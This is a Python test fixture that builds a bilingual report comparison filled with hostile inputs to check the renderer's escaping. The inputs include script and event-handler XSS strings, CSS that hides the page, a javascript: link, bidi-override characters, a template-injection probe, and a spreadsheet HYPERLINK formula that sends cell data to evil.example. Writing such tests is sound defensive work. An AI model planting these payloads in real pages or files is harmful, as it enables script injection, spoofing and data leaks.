"""A comparison in which every text that comes from outside tries to be more than text."""

from report.conftest import build_alignment, build_side, find

from align.records import Comparison, Fidelity, Finding, Quote, QuotePair

SCRIPT = "<script>window.ran = 1</script>"
STYLE = "</style><style>*{display:none}</style>"
EVENT = "<img src=x onerror=window.ran=1>"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1)'
LONG = "w" * 5000
TURNED = "\u202eabc\u202c \u2066def\u2069"
MARKUP = "| a `b` [c](javascript:window.ran=1) ![d](https://evil.example/d.png) **e** @f #1 www.evil.example |"
NAMES = (
    "r\udcffsum\udce9",
    "港" * 80,
    "a--b",
    "a/b",
    "x/<b onclick='window.ran=1'>?#%41&amp;",
    "'\"><script>window.ran=1<",
    "-f \u202ereverse",
)

EN = [[SCRIPT], [f"{STYLE} said the {EVENT} harbour.", LONG, FORMULA, TURNED, MARKUP]]
ZH = [
    [f"港口{EVENT}开放了。"],
    [f"港务局长{SCRIPT}说：“{STYLE}。”", "长" * 5000, "+1+1", f"“{TURNED}”", "{{7*7}}\u2028`<b>`"],
]
CONTENT = (SCRIPT, STYLE, LONG, FORMULA, TURNED, MARKUP)


def build_hostile():
    en = build_side(EN, "en", "Latn", f"javascript:window.ran=1//{EVENT}{FORMULA}", '"><b>2026')
    zh = build_side(ZH, "zh", "Hans", f"-{LONG}.txt", gap="")
    findings = tuple(
        Finding(
            "terminology", f"terminology/{EVENT}", "critical", 0.9, find(en, words)[0], zh.sentences[i].span,
            f"{FORMULA}{EVENT} {MARKUP}", i, f"{EVENT}{TURNED}", 0 if i == 1 else None,
        )
        for i, words in enumerate(CONTENT)
    )  # fmt: skip
    quotes = (
        QuotePair(
            Quote(
                find(en, EVENT), find(en, "said"), find(en, STYLE), "direct", f"{FORMULA} {EVENT} | {LONG}", 0.9
            ),
            Quote(find(zh, SCRIPT), find(zh, "说"), find(zh, STYLE), "direct", f"-{STYLE}\n\n<b>", 0.9),
            0.7,
        ),
    )
    signature = {
        EVENT: STYLE,
        "model": FORMULA,
        "checked": f"{EVENT}, name",
        "align": "1\n@x{y}",
        "|": "`a`\n\n<b>",
    }
    fidelity = Fidelity(0.5, (0.5,) * len(CONTENT), (0.5,))
    shapes = [(1, 1, 0.5, 0.5)] * len(CONTENT)
    return Comparison(en, zh, build_alignment(shapes), signature, quotes, findings, fidelity)
